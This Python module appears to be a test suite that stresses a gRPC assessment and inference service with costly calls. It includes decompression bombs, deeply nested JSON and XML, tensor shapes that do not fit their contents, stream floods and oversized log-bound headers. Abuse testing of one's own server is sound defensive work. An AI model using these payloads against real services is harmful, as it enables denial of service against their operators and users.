# SPDX-License-Identifier: Apache-2.0
"""Calls that cost the server more than the client, service by service."""

import gzip
import secrets
import struct

from google.protobuf import message as protobuf
from grpc_reflection.v1alpha import reflection_pb2
from tritonclient.grpc import service_pb2 as inference

from support.attacks import Steps, Target, attack
from support.attacks.content import bomb, slow_gzip, small_request
from support.attacks.messages import everything
from support.attacks.raw import (
    GZIP, SCORE_ROWS, WIDE, call, flood, flood_of_calls, message, packed)
from support.http2_frames import DATA, frame
from vigie.v1 import assessment_service_pb2, model_service_pb2

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
INFERENCE = "/inference.GRPCInferenceService/"
ASSESSMENT = "/vigie.v1.AssessmentService/"
MODELS = "/vigie.v1.ModelService/"
AS_OF = "2025-12-31"
# What a stream has in memory of a thousand requests; answers take next to none.
REFLECTION_BYTES = 128 << 10


def told(content: protobuf.Message) -> bytes:
    """A message with gRPC's prefix."""
    return message(content.SerializeToString())


@attack(lambda it: it.concurrentStreamsMax * REFLECTION_BYTES)
def reflection_in_bulk(target: Target) -> Steps:
    """Streams that ask for all files again and again."""
    asked = told(reflection_pb2.ServerReflectionRequest(
        file_containing_symbol="vigie.v1.AssessmentService.BatchAssess")) * 200
    return flood_of_calls(target, lambda stream: call(stream, REFLECTION, asked), together=5)


@attack(lambda it: it.concurrentStreamsMax * REFLECTION_BYTES)
def reflection_that_nobody_reads(target: Target) -> Steps:
    """The same, and the answers are left in the socket."""
    asked = told(reflection_pb2.ServerReflectionRequest(
        file_containing_symbol="vigie.v1.AssessmentService.BatchAssess")) * 1_000
    return flood_of_calls(
        target, lambda stream: call(stream, REFLECTION, asked), together=5, reads=False)


def tensor(kind: str, shape: list[int]) -> inference.ModelInferRequest.InferInputTensor:
    """An input."""
    return inference.ModelInferRequest.InferInputTensor(name="rows", datatype=kind, shape=shape)


def wrong_inferences(target: Target) -> list[bytes]:
    """Requests whose contents are not what they say."""
    made = inference.ModelInferRequest
    values = inference.InferTensorContents(fp32_contents=[1.0] * 50_000)
    typed = tensor("FP32", [2**40, 2**40])
    typed.contents.CopyFrom(values)
    requests = [
        made(inputs=[tensor("FP32", [2**62, 42])], raw_input_contents=[b"abc"]),
        made(inputs=[tensor("FP32", [-1, -1])], raw_input_contents=[bytes(100_000)]),
        made(inputs=[tensor("BYTES", [100_000, 1])],
             raw_input_contents=[struct.pack("<I", 2**32 - 1) * 1_000]),
        made(inputs=[tensor("FP32", [1])] * 4_000, raw_input_contents=[b""] * 4_000),
        made(inputs=[typed]),
        made(inputs=[tensor("FP32", [1] * 10_000)], raw_input_contents=[bytes(4)]),
    ]
    for each in requests:
        each.model_name = target.model
    return [packed(each.SerializeToString()) for each in requests]


@attack(everything)
def inferences_that_are_wrong(target: Target) -> Steps:
    """The Open Inference Protocol with shapes and contents that do not fit."""
    bodies = wrong_inferences(target)
    return flood_of_calls(
        target, lambda it: call(it, INFERENCE + "ModelInfer", bodies[it // 2 % len(bodies)],
                                more=GZIP), together=6)


@attack(everything)
def streams_of_inferences_that_are_wrong(target: Target) -> Steps:
    """The same on streams, which go on after each."""
    bodies = b"".join(wrong_inferences(target))
    return flood_of_calls(
        target, lambda it: call(it, INFERENCE + "ModelStreamInfer", bodies * 3, more=GZIP),
        together=2)


def papers(*contents: tuple[str, bytes]) -> bytes:
    """The messages of ReadPapers."""
    made = assessment_service_pb2.ReadPapersRequest
    head = assessment_service_pb2.ReadPapersHeader(as_of_date=AS_OF)
    part = assessment_service_pb2.PaperPart
    return told(made(header=head)) + b"".join(
        told(made(part=part(file_name=name, content=content))) for name, content in contents)


@attack(lambda it: everything(it) + 2 * it.paperThreads * it.paperDocumentBytesMax)
def papers_that_unpack_to_much(target: Target) -> Steps:
    """Papers that are bombs, slow to unpack, or deep."""
    table = b"siren;nic;denominationUniteLegale\n" + b"999200017;00011;A\n" * 200_000
    sent = [
        papers(("a.csv.gz", bomb(60 << 20))), papers(("a.csv.gz", slow_gzip(20_000))),
        papers(("a.json", b"[" * 500_000)), papers(("a.xml", b"<a>" * 200_000)),
        papers(("StockUniteLegale.csv.gz", gzip.compress(table, 9))),
        papers(*((f"{n}.csv", b"a;b\n1;2\n") for n in range(500))),
    ]
    return flood_of_calls(
        target, lambda it: call(it, ASSESSMENT + "ReadPapers", sent[it // 2 % len(sent)]),
        together=6)


def companies(target: Target) -> tuple[protobuf.Message, protobuf.Message]:
    """How the sample companies are assessed, and their facts."""
    batch = assessment_service_pb2.CompanyBatch
    facts = assessment_service_pb2.ReadPapersResponse.FromString(target.companies.read_bytes())
    head = assessment_service_pb2.AssessHeader(
        as_of_date=AS_OF, reason_count=5, line_names=facts.line_names)
    return head, batch(companies=list(facts.companies) * 60)


@attack(everything)
def batches_of_companies(target: Target) -> Steps:
    """24 streams, each of batch after batch."""
    head, batch = companies(target)
    made = assessment_service_pb2.BatchAssessRequest
    first, further = told(made(header=head)), packed(made(batch=batch).SerializeToString())
    opening = WIDE + b"".join(
        call(1 + 2 * n, ASSESSMENT + "BatchAssess", first, end=False, more=GZIP)
        for n in range(24))
    cut = [further[at:at + 16_384] for at in range(0, len(further), 16_384)]
    sent = b"".join(frame(DATA, 0, 1 + 2 * n, part) for n in range(24) for part in cut)
    return flood(target, sent, 24, opening=opening)


@attack(everything)
def companies_with_hard_questions(target: Target) -> Steps:
    """Each asks for some hundred assessments."""
    head, batch = companies(target)
    head.questions.reach_class = 1
    head.questions.trends = True
    request = told(assessment_service_pb2.AssessRequest(header=head, company=batch.companies[0]))
    return flood_of_calls(
        target, lambda stream: call(stream, ASSESSMENT + "Assess", request), together=20)


@attack(everything)
def descriptions_in_bulk(target: Target) -> Steps:
    """Calls of the control plane, whose answers are long."""
    name = model_service_pb2.DescribeModelRequest()
    calls = [(MODELS + "DescribeModel", told(name)), (MODELS + "ListModels", message(b"")),
             (MODELS + "GetQuantiser", message(b"")), (ASSESSMENT + "ListTerms", message(b"")),
             (INFERENCE + "ModelStatistics", message(b""))]
    return flood_of_calls(target, lambda it: call(it, *calls[it // 2 % len(calls)]), together=20)


@attack(everything)
def tokens_that_are_none(target: Target) -> Steps:
    """Each call shows another; connections are sent away and come back."""
    whole = message(small_request(target))

    def made(stream: int) -> bytes:
        token = "vigie_" + secrets.token_urlsafe(32)
        return call(stream, SCORE_ROWS, whole, more=(("authorization", f"Bearer {token}"),))

    return flood_of_calls(target, made, together=20)


@attack(everything)
def calls_for_the_log(target: Target) -> Steps:
    """Calls whose names, users and traces are long, so that their lines are."""
    more = (("user-agent", "u" * 2_000), ("x-request-id", "r" * 2_000),
            ("traceparent", "00-" + "a" * 32 + "-" + "b" * 16 + "-01"))
    path = "/vigie.v1.ScoringService/" + '"\\' * 500
    return flood_of_calls(target, lambda it: call(it, path, message(b""), more=more))


